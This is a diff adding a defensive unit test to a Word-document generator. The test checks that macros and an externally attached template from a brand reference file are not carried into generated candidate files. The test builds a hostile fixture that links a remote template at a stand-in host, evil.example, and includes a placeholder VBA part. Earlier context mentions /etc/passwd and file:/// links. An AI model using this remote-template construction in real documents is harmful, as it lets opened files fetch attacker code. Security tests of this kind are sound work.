@@ -246,3 +246,39 @@ def test_external_links_in_a_reference_header_are_not_carried_into_packs(tmp_pat
     with zipfile.ZipFile(next((tmp_path / "out").glob("*.docx"))) as archive:
         everything = b"".join(archive.read(name) for name in archive.namelist())
     assert b"file:///" not in everything and b"/etc/passwd" not in everything
+
+
+def test_macros_and_an_attached_template_of_a_reference_are_not_carried_into_packs(tmp_path):
+    """A macro-enabled reference with a template on a web server: every candidate's Word file
+    would carry the macros and fetch the template when opened. Only styles and page set-up come along."""
+    import zipfile
+
+    from docx.opc.packuri import PackURI
+    from docx.opc.part import Part
+    from docx.oxml import OxmlElement
+    from docx.oxml.ns import qn
+
+    reference = Document()
+    settings = reference.part._settings_part
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    r_id = settings.relate_to("http://evil.example/agency.dotm", office + "attachedTemplate", is_external=True)
+    attached = OxmlElement("w:attachedTemplate")
+    attached.set(qn("r:id"), r_id)
+    settings.element.append(attached)
+    macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"Attribute VB_Name",
+                  reference.part.package)
+    reference.part.relate_to(macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
+    reference.save(tmp_path / "ref.docx")
+    with zipfile.ZipFile(tmp_path / "ref.docx") as archive:  # the reference really has both
+        assert "word/vbaProject.bin" in archive.namelist()
+        assert b"evil.example" in archive.read("word/_rels/settings.xml.rels")
+    (tmp_path / "brand.yaml").write_text("name: Bureau Oost\nreference_docx: ref.docx\n", "utf-8")
+    result = run("generate", str(PROFILES / "ahmet-yilmaz.yaml"), "--brand", str(tmp_path / "brand.yaml"),
+                 "--format", "docx", "-o", str(tmp_path / "out"), "--today", TODAY.isoformat())
+    assert result.returncode == 0, result.stderr
+    with zipfile.ZipFile(next((tmp_path / "out").glob("*.docx"))) as archive:
+        names = archive.namelist()
+        everything = b"".join(archive.read(name) for name in names)
+    assert not [name for name in names if "vba" in name.lower()]
+    assert b"evil.example" not in everything and b"vbaProject" not in everything
+    assert b"attachedTemplate" not in everything
